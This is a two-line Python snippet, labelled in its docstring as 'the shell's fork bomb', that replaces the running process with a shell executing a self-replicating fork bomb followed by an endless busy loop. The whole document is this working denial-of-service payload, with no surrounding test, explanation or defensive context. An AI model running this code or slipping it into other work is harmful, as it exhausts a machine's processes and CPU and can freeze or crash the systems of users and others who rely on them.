"""The shell's fork bomb."""

os.execv("/bin/sh", ["sh", "-c", "b() { b | b & }; b; while :; do :; done"])
